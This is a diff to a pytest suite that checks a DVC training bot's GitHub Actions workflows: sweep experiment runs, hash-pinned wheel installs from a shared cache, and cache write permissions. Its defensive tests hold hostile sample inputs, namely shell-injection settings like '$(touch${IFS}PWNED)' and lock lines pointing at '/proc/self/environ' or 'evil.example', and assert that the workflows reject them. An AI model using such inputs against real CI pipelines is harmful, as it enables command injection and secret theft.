@@ -40,6 +40,7 @@ import pytest
 import yaml
 
 from bot.runs import DeployRun, TrainingRun, deploy_run, training_job_name, training_job_pull, training_run
+from tests.github_git_double import render_run_name
 
 ROOT = Path(__file__).resolve().parents[2]
 BIN = Path(sys.executable).parent
@@ -579,10 +580,8 @@ def test_workflows_match_github_actions_schema() -> None:
     assert result.returncode == 0, result.stdout + result.stderr
 
 
-def _render(template: str, inputs: dict[str, str]) -> str:
-    for name, value in inputs.items():
-        template = template.replace(f"${{{{ inputs.{name} }}}}", value)
-    return template
+def _render(template: str, inputs: dict[str, str], defaults: dict[str, str] | None = None) -> str:
+    return render_run_name(template, inputs, defaults)
 
 
 def training_job(workflow: Workflow) -> str:
@@ -598,16 +597,23 @@ def training_job(workflow: Workflow) -> str:
     ("path", "run"),
     [
         ("train.yml", TrainingRun(7, "abc1234", "main")),
+        ("train.yml", TrainingRun(7, "a" * 40, "main", "sweep-1001-3", ("train.lr=0.01", "train.epochs=20"))),
         ("deploy.yml", DeployRun(7, "pr-7", 31, "d" * 40)),
     ],
+    ids=["training", "sweep point", "deploy"],
 )
 def test_each_workflow_keeps_the_run_contract_the_bot_dispatches_and_recognises(
     path: str, run: TrainingRun | DeployRun
 ) -> None:
     workflow = load(path)
     declared = workflow[True]["workflow_dispatch"]["inputs"]  # PyYAML reads `on` as True
-    assert set(declared) == set(run.inputs), "the inputs the bot sends are exactly those declared"
-    assert _render(workflow["run-name"], run.inputs) == run.title
+    sweep_only = {"experiment", "set"} if isinstance(run, TrainingRun) and not run.sweep else set()
+    if isinstance(run, DeployRun):
+        sweep_only = {"report_url"}  # sent only when the commit has a training report (deploy.flow)
+    assert set(declared) == set(run.inputs) | sweep_only, "the bot sends only inputs that are declared"
+    assert all(declared[name].get("default") == "" for name in sweep_only), "optional: not always sent"
+    defaults = {name: str(spec.get("default", "")) for name, spec in declared.items()}
+    assert _render(workflow["run-name"], run.inputs, defaults) == run.title
     parsed = training_run(run.title) if isinstance(run, TrainingRun) else deploy_run(run.title)
     assert parsed == (replace(run, base="") if isinstance(run, TrainingRun) else run)
     for job in workflow["jobs"].values():
@@ -629,6 +635,7 @@ def test_each_job_is_pinned_bounded_least_privileged_and_takes_inputs_through_en
         assert job["runs-on"][0] == "self-hosted" and job["runs-on"][1] in (
             "orbit-gpu",
             "orbit-cpu",
+            "orbit-data",
             "orbit-build",
         )
         assert isinstance(job["timeout-minutes"], int), job_name
@@ -651,7 +658,7 @@ def test_train_workflow_trains_on_orbit_gpu_and_reports_even_a_failure() -> None
     workflow = load("train.yml")
     jobs = workflow["jobs"]
     assert jobs["train"]["runs-on"] == ["self-hosted", "orbit-gpu"]
-    assert jobs["pull"]["runs-on"] == jobs["push"]["runs-on"] == ["self-hosted", "orbit-cpu"]
+    assert jobs["pull"]["runs-on"] == jobs["push"]["runs-on"] == ["self-hosted", "orbit-data"]
     assert (jobs["train"]["needs"], jobs["push"]["needs"]) == ("pull", "train")
     job = jobs["train"]
     checkout = steps(job)[0]
@@ -659,8 +666,11 @@ def test_train_workflow_trains_on_orbit_gpu_and_reports_even_a_failure() -> None
     commands_run = [" ".join(words) for s in steps(job) for words in commands(str(s.get("run", "")))]
     assert [c for c in commands_run if c.startswith(("dvc", "orbit"))] == [
         "dvc config --local cache.dir $RUNNER_TEMP/orbit-data/cache",
+        "dvc remote add --local --force orbit-shared $ORBIT_CACHE/dvc",
+        "dvc fetch --remote orbit-shared",
         "dvc checkout --allow-missing",
         "dvc repro 2>&1",
+        "dvc exp run --name $EXPERIMENT ${args[@]} 2>&1",
         "orbit report build --base $BASE --out $RUNNER_TEMP/orbit-report "
         "--repro-log $RUNNER_TEMP/repro.log --started $STARTED",
     ]
@@ -1061,3 +1071,268 @@ def test_the_report_is_built_and_uploaded_also_after_a_failed_stage() -> None:
         # Without a status function GitHub adds success(): the step would never run after a failure.
         assert "!cancelled()" in condition, name
         assert "steps.train.outcome == 'failure'" in condition, name
+
+
+# --- a sweep point: `dvc exp run` with the settings, each checked again as data ----------------------
+
+
+def _train_step(
+    tmp_path: Path, experiment: str, settings: str
+) -> tuple[subprocess.CompletedProcess[str], str]:
+    """Run train.yml's Train step with a `dvc` and a `git` that only record their arguments."""
+    tools, temp, work = tmp_path / "bin", tmp_path / "temp", tmp_path / "work"
+    for folder in (tools, temp / "pr-venv/bin", work):
+        folder.mkdir(parents=True, exist_ok=True)
+    (temp / "pr-venv/bin/activate").write_text("")
+    calls = tmp_path / "calls"
+    for name in ("dvc", "git"):
+        record = f'printf "{name}" >> "{calls}"\nprintf " [%s]" "$@" >> "{calls}"\necho >> "{calls}"\n'
+        (tools / name).write_text(f"#!/bin/bash\n{record}")
+        (tools / name).chmod(0o755)
+    env = {
+        "PATH": f"{tools}{os.pathsep}/usr/bin:/bin",
+        "RUNNER_TEMP": str(temp),
+        "EXPERIMENT": experiment,
+        "SETTINGS": settings,
+    }
+    found = step(load("train.yml"), "train", "Train")
+    assert found["env"] == {"EXPERIMENT": "${{ inputs.experiment }}", "SETTINGS": "${{ inputs.set }}"}
+    result = bash(found["run"], work, env, found.get("shell", ""))
+    return result, calls.read_text() if calls.exists() else ""
+
+
+def test_the_train_step_runs_a_sweep_point_as_an_experiment_with_its_settings(tmp_path: Path) -> None:
+    result, calls = _train_step(tmp_path, "sweep-1001-3", "train.lr=0.01 train.epochs=20")
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert calls.splitlines()[-1] == (
+        "dvc [exp] [run] [--name] [sweep-1001-3] [-S] [train.lr=0.01] [-S] [train.epochs=20]"
+    )
+    plain, plain_calls = _train_step(tmp_path / "plain", "", "")
+    assert plain.returncode == 0, plain.stderr
+    assert plain_calls == "dvc [repro]\n", "without an experiment: the PR's own training, as before"
+
+
+@pytest.mark.parametrize(
+    ("experiment", "settings"),
+    [
+        ("sweep-1-0", "train.lr=$(touch${IFS}PWNED)"),
+        ("sweep-1-0", "train.lr=*"),
+        ("sweep-1-0", "--force"),
+        ("sweep-1-0", "train.lr=1;touch PWNED"),
+        ("sweep-1-0", ""),
+        ("-rf", "train.lr=0.1"),
+        ("a b", "train.lr=0.1"),
+    ],
+)
+def test_the_train_step_refuses_settings_that_are_not_plain_key_values(
+    tmp_path: Path, experiment: str, settings: str
+) -> None:
+    result, calls = _train_step(tmp_path, experiment, settings)
+    assert result.returncode == 1
+    assert "dvc" not in calls, "nothing ran"
+    assert not list(tmp_path.rglob("PWNED"))
+
+
+# --- the PR's own dependencies, and the shared cache (ORBIT_CACHE) ----------------------------------
+
+IMAGE_LOCK_HASH = "/opt/orbit/runner.lock.sha256"
+
+
+def wheel(folder: Path, name: str, version: str = "1.0") -> Path:
+    """Write a pure-Python wheel whose module says its name, and return it."""
+    import base64
+    import zipfile
+
+    info = f"{name}-{version}.dist-info"
+    files = {
+        f"{name}.py": f"WHO = {name!r}\n",
+        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+    }
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / f"{name}-{version}-py3-none-any.whl"
+    with zipfile.ZipFile(path, "w") as archive:
+        record = []
+        for member, text in files.items():
+            archive.writestr(member, text)
+            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
+            record.append(f"{member},sha256={digest},{len(text.encode())}")
+        archive.writestr(f"{info}/RECORD", "\n".join([*record, f"{info}/RECORD,,"]) + "\n")
+    return path
+
+
+def lock_of(*wheels: Path) -> str:
+    """Return a requirements/runner.lock as scripts/lock writes it: pinned, one hash per file."""
+    lines = ["# This file was autogenerated by uv via the following command:", "#    scripts/lock"]
+    for path in wheels:
+        name, version = path.name.split("-")[:2]
+        lines += [
+            f"{name}=={version} \\",
+            f"    --hash=sha256:{hashlib.sha256(path.read_bytes()).hexdigest()}",
+        ]
+    return "\n".join(lines) + "\n"
+
+
+def offline_env(tmp_path: Path, tooling: Path, cache: Path | None = None) -> dict[str, str]:
+    env = {
+        "PATH": f"{tooling / 'bin'}{os.pathsep}{os.environ['PATH']}",
+        "RUNNER_TEMP": str(tmp_path / "runner-temp"),
+        "HOME": str(tmp_path),
+        "PIP_NO_INDEX": "1",  # nothing from an index: the wheels come from the shared cache or nowhere
+        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
+        "PIP_NO_CACHE_DIR": "1",
+    }
+    (tmp_path / "runner-temp").mkdir(exist_ok=True)
+    return {**env, "ORBIT_CACHE": str(cache)} if cache else env
+
+
+def with_image_lock(workflow: Workflow, job: str, name: str, hash_file: Path) -> Workflow:
+    """Return the workflow with one step reading the image's lock hash from `hash_file` instead."""
+    found = step(workflow, job, name)
+    found["run"] = found["run"].replace(IMAGE_LOCK_HASH, str(hash_file))
+    return workflow
+
+
+def pr_project(folder: Path, lock: str) -> Path:
+    folder.mkdir()
+    (folder / "plant.py").write_text(PLANT_BACKEND)
+    (folder / "pyproject.toml").write_text(PLANT_PROJECT)
+    (folder / "requirements").mkdir()
+    (folder / "requirements/runner.lock").write_text(lock)
+    return folder
+
+
+INSTALL_STEPS = ("Make a throwaway venv for the PR's code", "Install the project into it")
+
+
+def install(workflow: Workflow, project: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    for name in INSTALL_STEPS:
+        result = run_step(workflow, "train", name, project, env)
+        if result.returncode != 0:
+            return result
+    return result
+
+
+def pr_python(env: dict[str, str], code: str) -> subprocess.CompletedProcess[str]:
+    python = Path(env["RUNNER_TEMP"]) / "pr-venv/bin/python"
+    return subprocess.run([str(python), "-c", code], env=env, capture_output=True, text=True, check=False)
+
+
+@pytest.mark.slow
+def test_a_pr_that_adds_a_dependency_gets_its_locks_packages_from_the_shared_cache(tmp_path: Path) -> None:
+    tooling = tmp_path / "tooling"
+    subprocess.run([sys.executable, "-m", "venv", str(tooling)], check=True)
+    added = wheel(tmp_path / "built", "newdep")
+    lock = lock_of(added)
+    cache = tmp_path / "cache"
+    wheels = cache / "wheels" / hashlib.sha256(lock.encode()).hexdigest()
+    wheels.mkdir(parents=True)
+    shutil.copy(added, wheels)  # as the pull job fetched it
+    image_hash = tmp_path / "image-lock.sha256"
+    image_hash.write_text(hashlib.sha256(b"the image's own lock").hexdigest() + "\n")
+    workflow = with_image_lock(load("train.yml"), "train", INSTALL_STEPS[0], image_hash)
+    project = pr_project(tmp_path / "pr", lock)
+    env = offline_env(tmp_path, tooling, cache)
+
+    result = install(workflow, project, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    seen = pr_python(
+        env, "import importlib.metadata, newdep; print(newdep.WHO, importlib.metadata.version('planted'))"
+    )
+    assert seen.stdout.strip() == "newdep 0", "the lock's packages and the project itself: " + seen.stderr
+    pth = list((Path(env["RUNNER_TEMP"]) / "pr-venv").rglob("orbit-tooling.pth"))
+    assert pth == [], "an environment of its own: the tooling's packages are not mixed in"
+
+
+@pytest.mark.slow
+def test_a_wheel_that_does_not_match_the_lock_is_refused(tmp_path: Path) -> None:
+    tooling = tmp_path / "tooling"
+    subprocess.run([sys.executable, "-m", "venv", str(tooling)], check=True)
+    lock = lock_of(wheel(tmp_path / "built", "newdep"))
+    cache = tmp_path / "cache"
+    wheels = cache / "wheels" / hashlib.sha256(lock.encode()).hexdigest()
+    wheel(tmp_path / "poisoned", "newdep").write_bytes(b"")  # a name the lock pins, other bytes
+    shutil.copytree(tmp_path / "poisoned", wheels)
+    project = pr_project(tmp_path / "pr", lock)
+    result = install(load("train.yml"), project, offline_env(tmp_path, tooling, cache))
+    assert result.returncode != 0
+    assert "hash" in (result.stdout + result.stderr).lower()
+
+
+@pytest.mark.slow
+def test_a_lock_like_the_images_keeps_the_tooling_and_installs_nothing_more(tmp_path: Path) -> None:
+    tooling = tmp_path / "tooling"
+    subprocess.run([sys.executable, "-m", "venv", str(tooling)], check=True)
+    lock = lock_of(wheel(tmp_path / "built", "newdep"))  # in no wheel folder: installing it would fail
+    image_hash = tmp_path / "image-lock.sha256"
+    image_hash.write_text(hashlib.sha256(lock.encode()).hexdigest() + "\n")
+    workflow = with_image_lock(load("train.yml"), "train", INSTALL_STEPS[0], image_hash)
+    project = pr_project(tmp_path / "pr", lock)
+    env = offline_env(tmp_path, tooling)
+    result = install(workflow, project, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert pr_python(env, "import newdep").returncode != 0, "the lock was not installed"
+    assert list((Path(env["RUNNER_TEMP"]) / "pr-venv").rglob("orbit-tooling.pth")), "the tooling is seen"
+
+
+FETCH_WHEELS = "Fetch the wheels of the PR's lock"
+
+
+def test_the_pull_job_fetches_wheels_only_hash_checked_with_the_tooling() -> None:
+    script = step(load("train.yml"), "pull", FETCH_WHEELS)["run"]
+    downloads_ = [words for words in commands(script) if "download" in words and "pip" in words]
+    assert downloads_, "it fetches with pip download"
+    for words in downloads_:
+        assert words[:4] == ["python", "-I", "-m", "pip"], "the tooling's pip, never the PR's"
+        assert {"--require-hashes", "--no-deps", "--only-binary=:all:"} <= set(words), words
+    assert not [words for words in commands(script) if "install" in words], "nothing installed here"
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["-r /proc/self/environ", "--index-url https://evil.example/simple", "newdep>=1.0", "-e git+https://x/y"],
+)
+def test_a_lock_with_anything_but_pinned_hashed_requirements_fetches_nothing(
+    line: str, tmp_path: Path
+) -> None:
+    work, cache = tmp_path / "work", tmp_path / "cache"
+    (work / "pr/requirements").mkdir(parents=True)
+    lock = lock_of(wheel(tmp_path / "built", "newdep"))
+    (work / "pr/requirements/runner.lock").write_text(lock + line + "\n")
+    env = offline_env(tmp_path, Path(sys.executable).parent.parent, cache)
+    result = run_step(load("train.yml"), "pull", FETCH_WHEELS, work, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert "holds more than pinned, hashed requirements: no wheels fetched" in result.stdout
+    assert not (cache / "wheels").exists()
+
+
+@pytest.mark.slow
+def test_the_pull_job_fetches_the_locks_wheels_into_the_shared_cache(tmp_path: Path) -> None:
+    work, cache = tmp_path / "work", tmp_path / "cache"
+    (work / "pr/requirements").mkdir(parents=True)
+    added = wheel(tmp_path / "index", "newdep")
+    lock = lock_of(added)
+    (work / "pr/requirements/runner.lock").write_text(lock)
+    env = {**offline_env(tmp_path, BIN.parent, cache), "PIP_FIND_LINKS": str(tmp_path / "index")}
+    result = run_step(load("train.yml"), "pull", FETCH_WHEELS, work, env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    fetched = cache / "wheels" / hashlib.sha256(lock.encode()).hexdigest()
+    assert sorted(p.name for p in fetched.iterdir()) == ["complete", added.name]
+    assert (fetched / added.name).read_bytes() == added.read_bytes()
+
+
+def test_no_job_uses_the_run_cache_and_only_jobs_that_run_no_pr_code_may_write_the_shared_cache() -> None:
+    for name in ORBIT:
+        workflow = load(name)
+        for job_name, job in workflow["jobs"].items():
+            assert "--run-cache" not in json.dumps(job), (
+                f"{name} {job_name}: see SECURITY.md, the shared cache"
+            )
+            if "orbit-data" in job["runs-on"]:
+                assert job_name not in runs_pr_code(workflow), f"{name} {job_name} writes the shared cache"
+    push = step(load("train.yml"), "push", "Add what was hashed here")
+    assert "env" not in push, "no key"
+    assert [w for w in commands(push["run"]) if w[:1] == ["dvc"]] == [
+        ["dvc", "remote", "add", "--local", "--force", "orbit-shared", "$ORBIT_CACHE/dvc"],
+        ["dvc", "push", "--remote", "orbit-shared"],
+    ], "objects only, those this job hashed"
